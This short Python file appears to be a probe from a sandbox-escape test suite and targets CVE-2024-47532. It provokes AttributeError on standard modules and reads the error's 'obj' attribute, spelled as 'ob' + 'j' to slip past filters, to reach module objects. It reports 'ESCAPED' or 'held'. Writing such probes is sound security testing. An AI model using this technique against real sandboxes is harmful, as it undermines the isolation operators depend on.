# tries: CVE-2024-47532 by name: error.obj of the attribute error of every module
# layer: language
import json
import math
import random
import re


def run(ctx, params):
    for module in (json, math, random, re):
        try:
            getattr(module, "no_such_name")
        except AttributeError as error:
            owner = getattr(error, "ob" + "j", None)
            if owner is not None:
                return f"ESCAPED: {owner}"
    return "held: the error tells nothing"
